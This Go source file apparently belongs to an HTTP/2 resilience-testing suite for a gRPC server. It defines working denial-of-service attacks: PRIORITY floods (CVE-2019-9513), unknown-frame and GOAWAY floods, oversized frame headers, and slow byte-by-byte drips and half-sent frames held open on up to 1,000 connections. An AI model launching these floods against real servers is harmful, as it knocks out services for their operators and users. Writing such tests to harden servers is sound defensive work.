// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"time"

	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
	"google.golang.org/grpc/attack/internal/wire"
)

// frameKinds are attacks on a server with the other types of frames.
var frameKinds = []Kind{
	{
		Name:   "server/frame/priority-flood",
		About:  "PRIORITY for streams that were never opened (CVE-2019-9513)",
		Attack: flood(4, true, priorities),
	},
	{
		Name:   "server/frame/unknown-flood",
		About:  "frames of a type that does not exist (RFC 9113, 5.5: ignore)",
		Attack: flood(4, true, frame(0xfa, 0, 0, make([]byte, 100))),
	},
	{
		Name:   "server/frame/unknown-large",
		About:  "the same, of 16 KB",
		Attack: flood(4, true, frame(0xfa, 0, 0, make([]byte, 16<<10))),
	},
	{
		Name:   "server/frame/goaway-flood",
		About:  "GOAWAY with 16 KB of debug data, again and again",
		Attack: flood(4, true, frame(wire.GoAway, 0, 0, make([]byte, 16<<10))),
	},
	{
		Name:   "server/frame/push-promise",
		About:  "PUSH_PROMISE from a client: a connection error (RFC 9113, 8.4)",
		Attack: flood(16, true, frame(wire.PushPromise, wire.EndHeaders, 1, wire.Uint32(2))),
	},
	{
		Name:   "server/frame/too-large",
		About:  "frames that declare 16 MB (RFC 9113, 4.2)",
		Attack: flood(16, true, tooLarge),
	},
	{
		Name:   "server/frame/header-only",
		About:  "the header of a DATA frame of 16 KB and nothing more, on 500 connections",
		Attack: hold(500, true, beginFrame(0)),
	},
	{
		Name:   "server/frame/almost",
		About:  "all but one byte of a DATA frame of 16 KB, on 500 connections",
		Attack: hold(500, true, beginFrame(16<<10-1)),
	},
	{
		Name:   "server/frame/bytes-alone",
		About:  "PINGs of which each byte is written alone",
		Attack: flood(4, true, tinyRecords),
	},
	{
		Name:  "server/frame/paced-bytes",
		About: "PINGs byte by byte, one every 2 ms, on 100 connections: each may wake a reader",
		Attack: func(a *attacker.Attacker) error {
			return a.Conns(100, func(c *attacker.Conn) error {
				c.Drain(nil)
				ping := wire.AppendFrame(nil, wire.Frame{Type: wire.Ping, Payload: make([]byte, 8)})
				at := 0
				return every(c, 2*time.Millisecond, func(c *attacker.Conn) error {
					at++
					return c.Raw(ping[(at-1)%len(ping):][:1])
				})
			})
		},
	},
	{
		Name:  "server/frame/drip",
		About: "frames byte by byte, one every 150 ms, on 1,000 connections",
		Time:  3 * time.Second,
		Attack: func(a *attacker.Attacker) error {
			return a.Conns(1000, func(c *attacker.Conn) error {
				c.Drain(nil)
				ping := wire.AppendFrame(nil, wire.Frame{Type: wire.Ping, Payload: make([]byte, 8)})
				for i := 0; a.Sleep(150 * time.Millisecond); i++ {
					if err := c.Raw(ping[i%len(ping):][:1]); err != nil {
						return err
					}
					if err := c.Flush(); err != nil {
						return err
					}
				}
				return nil
			})
		},
	},
	{
		Name:   "server/frame/half-settings",
		About:  "half of a SETTINGS frame on 1,000 connections",
		Attack: hold(1000, true, func(c *attacker.Conn) error { return c.Raw([]byte{0, 0, 6, wire.Settings, 0}) }),
	},
}

func priorities(c *attacker.Conn) error {
	return c.Frame(wire.Priority, 0, c.Stream(), []byte{0, 0, 0, 0, 10})
}

func tooLarge(c *attacker.Conn) error {
	if err := c.Raw(wire.AppendHeader(nil, 1<<24-1, wire.Frame{Type: wire.Data, Stream: 1})); err != nil {
		return err
	}
	return c.Raw(make([]byte, 16<<10))
}

// beginFrame opens a stream and sends n bytes of a frame of 16 KB.
func beginFrame(n int) script {
	return func(c *attacker.Conn) error {
		if _, err := open(c, 1, orders.Sink); err != nil {
			return err
		}
		if err := c.Raw(wire.AppendHeader(nil, 16<<10, wire.Frame{Type: wire.Data, Stream: 1})); err != nil {
			return err
		}
		return c.Raw(append(wire.AppendPrefix(nil, 0, 16<<10-5), make([]byte, 16<<10)...)[:n])
	}
}
